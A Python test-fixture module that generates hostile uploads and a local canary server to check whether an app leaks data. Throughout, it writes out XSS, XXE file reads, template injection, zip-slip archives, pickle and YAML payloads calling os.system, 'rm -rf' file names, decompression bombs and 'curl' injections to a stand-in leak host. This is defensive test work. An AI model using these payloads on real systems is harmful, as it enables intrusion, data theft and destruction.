"""Files that mean harm, made here; and a canary that notices whoever does as they say.

Each names the canary: by its port of this machine, by a host that leads there, or by a file with its song. Hosts of
addresses that may be looked up, as a picture's are before a print, begin with `picture`; all others with `leak`.
"""

import base64
import gzip
import io
import json
import socket
import threading
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from picturing import data_url, encoded, icon, svg
from saving import SAVE, SMITH, packed

from tests.formats.test_bombs import BOMBS, HUGE
from tests.formats.test_hostile_input import HOSTILE
from tests.hostile.test_hostile_pictures import BAD, LOOPBACK

SONG = "canary-song-7f3a"
#: What a script in a page would be, were it run.
RUN = "canaryruns()"
Body = bytes | str


@dataclass
class Canary:
    """A port of this machine that answers anybody with the song; and a file with it."""

    port: int
    secret: Path
    visits: list[Any] = field(default_factory=list)

    @property
    def leak(self) -> str:
        return f"http://leak.example:{self.port}/x.svg"


@contextmanager
def canary(folder: Path) -> Iterator[Canary]:
    """Listens on both kinds of address until the end; the file is in the folder."""
    secret = folder / "secret.txt"
    secret.write_text(SONG)
    with socket.create_server(("::", 0), family=socket.AF_INET6, dualstack_ipv6=True) as listening:
        bird = Canary(listening.getsockname()[1], secret)

        def sing() -> None:
            with suppress(OSError):
                while True:
                    caller, address = listening.accept()
                    with caller, suppress(OSError):
                        bird.visits.append(address)
                        caller.settimeout(1)
                        caller.sendall(
                            f"HTTP/1.0 200 OK\r\nContent-Type: image/svg+xml\r\n\r\n{SONG}".encode()
                        )

        thread = threading.Thread(target=sing, daemon=True)
        thread.start()
        yield bird
        listening.shutdown(socket.SHUT_RDWR)
        thread.join(10)


def hostile_files(bird: Canary, only: Callable[[str], bool] = bool) -> Iterator[tuple[str, str, Body]]:
    """What is hostile about each that is wanted, the name under which it is sent, and the file.

    Large ones are made only if they are wanted.
    """
    made = {what: make for what, (make, _) in HOSTILE.items()}
    for what, make in (made | {f"a bomb: {what}": pack for what, pack in BOMBS.items()}).items():
        if only(what):
            yield what, f"{what.removeprefix('a bomb: ')}.json", make()
    yield from (each for each in _small_files(bird) if only(each[0]))


def _small_files(bird: Canary) -> Iterator[tuple[str, str, Body]]:
    for what, archive in _archives(bird).items():
        yield what, f"{what}.zip", archive
    for what, text in _texts(bird).items():
        yield what, "text.json", json.dumps(everywhere(text))
        yield f"{what}, in a save", "save.json", json.dumps(_save(text))
    for what, body in (BAD | _drawings(bird)).items():
        kind = "image/svg+xml" if b"<svg" in body else "image/png"
        yield what, "picture.json", json.dumps(pictured(data_url(body, kind)))
    addresses = [url.format(bird.port) for url in LOOPBACK]
    addresses += [
        f"https://picture.example:{bird.port}/a.png", f"http://picture.example:{bird.port}/a.png",
        bird.secret.as_uri(), str(bird.secret), f"\\\\127.0.0.1@{bird.port}\\a.png", f"https://[::ffff:7f00:1]:{bird.port}/a.png",
        f"https:127.0.0.1:{bird.port}/a.png", "clockwright:upload/../../secret.txt", f"clockwright:{bird.secret}",
    ]  # fmt: skip
    for address in addresses:
        yield f"the picture {address}", "address.json", json.dumps(pictured(address))
    for name in NAMES:
        yield f"the file name {name[:40]!r}", name, '["imp", "nobody"]'
    for what, other in _others(bird).items():
        yield what, f"{what}.bin", other


NAMES = (
    "../../../evil.json", "/etc/cron.d/evil.json", "..\\..\\evil.json", "CON.json", "a\0b.json", "x\r\nX-Evil: 1.json",
    '"; rm -rf ~; ".json', "\u202enosj.live", f"<script>{RUN}</script>.json", "." * 255,
    "%2e%2e%2fevil.json", "n" * 5000,
)  # fmt: skip


def everywhere(text: str) -> list[Any]:
    """A script with a text in every place that takes one."""
    person = dict.fromkeys(
        ("name", "ability", "flavor", "firstNightReminder", "otherNightReminder", "edition"), text
    )
    own: dict[str, Any] = person | {"id": "own", "team": "townsfolk", "firstNight": 3, "otherNight": 3}
    own |= {"reminders": [text], "remindersGlobal": [text], "jinxes": [{"id": "imp", "reason": text}]}
    extras = dict.fromkeys(
        ("notes", "overview", "examples", "howToRun", "tip", "credit", "attribution"), text
    )
    meta = dict.fromkeys(("name", "author", "colour", "logo", "background", "almanac", "firstNight"), text)
    block = {"format": 1, "characters": {"own": extras}, "almanac": {"synopsis": text, "overview": text}}
    more = {"id": "_meta", "bootlegger": [text], "x": text, "clockwright": block}
    return [meta | more, own, own | {"id": text[:100]}, "imp", "chef", "baron"]


def pictured(address: str) -> list[Any]:
    """A script with a picture in every place that takes one."""
    own = {
        "id": "own",
        "name": "Own",
        "team": "townsfolk",
        "ability": "You hum.",
        "image": [address, address],
    }
    meta = {"id": "_meta", "name": "Pictured", "logo": address, "background": address, "almanac": address}
    return [meta, own, "imp", "chef"]


def _save(text: str) -> dict[str, Any]:
    texts = {name: text for name, value in SMITH.items() if isinstance(value, str) and name != "team"}
    almanac = dict.fromkeys(SMITH["almanac"], text)
    return SAVE | {
        "meta": {"name": text, "author": text, "logo": text},
        "characterList": [SMITH | texts | {"almanac": almanac}],
    }


def _texts(bird: Canary) -> dict[str, str]:
    leak, secret = bird.leak, bird.secret.as_uri()
    return {
        "a script in HTML": f"<script>{RUN}</script>",
        "an event in HTML": f"'\"><img src=x onerror={RUN}><svg/onload={RUN}>",
        "a picture in HTML": f"<img src={leak}><img src='{secret}'><link rel=stylesheet href={leak}>",
        "a frame in HTML": f'</title></style><iframe src="{leak}"></iframe><object data="{secret}"></object>',
        "the end of an attribute": f'" style="background:url({leak})" onfocus="{RUN}" autofocus x="',
        "an import in CSS": f"red; }} </style><style>@import url({leak}); * {{ background: url({secret}) }}",
        "a font in CSS": f'"; }} @font-face {{ font-family: x; src: url({leak}) }} * {{ font-family: x }} /*',
        "escapes in CSS": f"\\3c script\\3e {RUN} \\75rl({leak}) expression({RUN})",
        "links in Markdown": f"[x](javascript:{RUN}) ![x]({leak}) <{leak}> [y]: {leak}\n# x\n<b onclick={RUN}>",
        "a template": "{{ 7*7 }} {% include '/etc/passwd' %} {{ config }} ${7*7} <%= 7*7 %> #{7*7}",
        "a formula": f'=HYPERLINK("{leak}","x")\t+1-1\n@SUM(1)|cmd',
        "a path": "../../../../../../tmp/evil/../evil",
        "a Windows path": "C:\\..\\..\\evil:stream",
        "a header": "x\r\nSet-Cookie: evil=1\r\n\r\n<html>",
        "a query of the database": "'; DROP TABLE scripts; --",
        "a name of Python": "__class__.__mro__",
        "NUL and controls": "a\0b\x01\x07\x1b[31m\x7f\x85",
        "writing that turns": "\u202e\u2066evil\u2069\u200f\u061c" * 20,
        "letters of no width": "\u200b\u200c\u200d\ufeff\u2060\u00ad" * 100,
        "thousands of marks": "a" + "\u0301\u0316" * 5000,
        "half letters": "x\ud800y\udfff",
        "letters that are none": "\ufffe\uffff\U0010ffff",
        "open brackets": "[" * 3000,
        "ways to set up": "[+1 or -1 Outsider]" * 40,
        "a very long word": "W" * 20_000,
        "stars and colons": "**a:reminder:" * 2000,
        "an entity": "&lt;script&gt; &#0; &xxe; &#xD800; <!ENTITY x SYSTEM 'file:///etc/passwd'>",
        "a shell": f"$(curl {leak}) `curl {leak}` | curl {leak} & %0a",
    }


def _drawings(bird: Canary) -> dict[str, bytes]:
    """Pictures that call, read, run, or mean far more than they say."""
    leak, secret = bird.leak, bird.secret.as_uri()
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    elsewhere = f"@import url({leak}); @font-face {{ font-family: x; src: url({leak}) }}"
    inside = {
        "a script": f"<script>{RUN}</script><path d='M0 0h9v9z' onload='{RUN}'/>",
        "a picture elsewhere": f'<image href="{leak}" width="9" height="9"/><image href="{secret}" height="9"/>',
        "a style elsewhere": f"<style>{elsewhere}</style>"
        f"<text font-family='x' style='fill:url({leak})'>{SONG[:3]}</text>",
        "HTML": f"<foreignObject width='9' height='9'><body xmlns='http://www.w3.org/1999/xhtml'><img src='{leak}'/>"
        f"<script>{RUN}</script></body></foreignObject>",
        "a use elsewhere": f'<use href="{leak}#x"/><use href="{secret}#x"/><a href="javascript:{RUN}"/>',
        "a filter elsewhere": f'<filter id="f"><feImage href="{leak}"/></filter><path d="M0 0h9v9z" filter="url(#f)"/>',
        "a pattern in itself": '<pattern id="p" width="9" height="9"><path d="M0 0h9v9z" fill="url(#p)"/></pattern>'
        '<path d="M0 0h9v9z" fill="url(#p)"/>',
        "a use of itself": '<g id="g"><use href="#g"/></g><use href="#g"/>',
        "a blur of millions": '<filter id="f"><feGaussianBlur stdDeviation="1e9"/></filter>'
        '<path d="M0 0h9v9z" filter="url(#f)"/>',
        "numbers beyond all": '<path d="M-1e308 1e308h1e308v9e999zm0 0" stroke-width="1e308"/>',
        "an XInclude": f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{secret}" parse="text"/>',
    }
    drawn = {f"an SVG with {what}": svg(content) for what, content in inside.items()}
    drawn |= {
        "an SVG of laughs": f'<!DOCTYPE svg [<!ENTITY l0 "ha">{laughs}]>'.encode() + svg("<text>&l9;</text>"),
        "an SVG with a file": f'<!DOCTYPE svg [<!ENTITY x SYSTEM "{secret}">]>'.encode() + svg("<text>&x;</text>"),
        "an SVG with a DTD": f'<!DOCTYPE svg SYSTEM "{leak}">'.encode() + svg("<path d='M0 0h9v9z'/>"),
        "an SVG with a parameter": f'<!DOCTYPE svg [<!ENTITY % p SYSTEM "{leak}"> %p;]>'.encode() + svg(""),
        "an SVG with a stylesheet": f'<?xml-stylesheet href="{leak}"?>'.encode() + svg("<path d='M0 0h9v9z'/>"),
        "an SVG as large as a field": svg("<path d='M0 0h9v9z'/>", "0 0 1000000000 1000000000"),
        "a packed SVG": gzip.compress(svg(" " * 20_000_000)),
        "a PostScript file": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) (r) file\n",
        "a font": b"wOF2" + bytes(200),
        "a film": encoded(icon(64), "GIF", save_all=True, append_images=[icon(64)] * 200),
        "a TIFF": encoded(icon(64), "TIFF"),
        "a huge BMP": b"BM" + bytes(12) + b"\x28\0\0\0" + b"\xff\xff\xff\x7f" * 2 + b"\1\0\x20\0" + bytes(24),
    }  # fmt: skip
    return drawn


def _archives(bird: Canary) -> dict[str, bytes]:
    body = json.dumps(["imp", "chef"])
    bomb = BOMBS["ZIP"]()
    link = zipfile.ZipInfo("script.json")
    link.external_attr = 0o120777 << 16
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr(link, str(bird.secret))
    paths = (
        "../../../evil.json",
        "/var/evil.json",
        "..\\evil.json",
        "C:evil.json",
        "a/../../evil.json",
        "x" * 60_000,
    )
    whole = packed({"script.json": body})
    return {
        "paths out of the archive": packed(dict.fromkeys(paths, body)),
        "pictures out of the archive": packed(
            {"meta.json": '{"name": "x"}', "roles/../../evil.json": json.dumps({"id": "x"})}
            | {"src_images/../../../evil.png": b"x"}
        ),
        "a link to a file": target.getvalue(),
        "archives in archives": packed({f"{n}.zip": bomb if isinstance(bomb, bytes) else b"" for n in range(5)}),
        "60,000 members": packed({f"{n}.json": "" for n in range(60_000)}, zipfile.ZIP_STORED),
        "a size that is a lie": whole.replace(len(body).to_bytes(4, "little"), b"\xff\xff\xff\x7f"),
        "half an archive": whole[: len(whole) // 2],
        "an encrypted member": whole.replace(b"PK\1\2\x14\3\x14\0\0\0", b"PK\1\2\x14\3\x14\0\1\0"),
        "NUL in a name": whole.replace(b"script.json", b"scr\0../json"),
        "pictures that are bombs": packed(
            {f"{what}.png": made for what, made in BAD.items()}
            | {"script.json": json.dumps(pictured("144 megapixels.png"))}
        ),
        "drawings in a folder": packed(
            {f"{n}.svg": made for n, made in enumerate(_drawings(bird).values())} | {"script.json": body}
        ),
    }  # fmt: skip


def _others(bird: Canary) -> dict[str, Body]:
    leak, secret = bird.leak, bird.secret.as_uri()
    actions = f"<< /S /URI /URI ({leak}) >> << /S /JavaScript /JS ({RUN}) >> << /S /Launch /F ({secret}) >>"
    page = f"<title>x Almanac</title><link rel=stylesheet href={leak}><script src={leak}></script><base href={leak}>"
    page += f'<li class="page" id="a"><div class="page-contents demon"><h2><img src={leak}>A</h2><p class="ability">'
    page += f"<iframe src='{secret}'></iframe>Each night.</p></div></li>"
    bloated = base64.b64encode(gzip.compress(b"[" * 100_000)).decode()
    return {
        "a PDF that acts": f"%PDF-1.7\n1 0 obj\n{actions}\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF",
        "a PDF that turns in circles": "%PDF-1.7\nxref\n0 1\ntrailer << /Prev 9 >>\nstartxref\n9\n%%EOF",
        "a page that calls": page,
        "an XML file": f'<!DOCTYPE x [<!ENTITY x SYSTEM "{secret}">]><script>&x;</script>',
        "a link that is deep": f"https://leak.example/?script={bloated}",
        "a file in UTF-16": json.dumps(everywhere(f"<script>{RUN}</script>")).encode("utf-16"),
        "a file in UTF-32": json.dumps(["imp"]).encode("utf-32"),
        "bytes that are too long": b'["\xc0\xaf\xc0\xaf\xed\xa0\x80"]',
        "names of JavaScript": json.dumps([{"id": "__proto__", "name": "x"}, "constructor", "toString"]),
        "numbers of all sizes": '[{"id": "x", "firstNight": 1e999, "otherNight": -0, "reminders": NaN}]',
        "dates and YAML": "!!python/object/apply:os.system ['true']\n",
        "a pickle": b"\x80\x04cos\nsystem\n(S'true'\ntR.",
        "a gzip of nothing": gzip.compress(bytes(HUGE // 10)),
    }
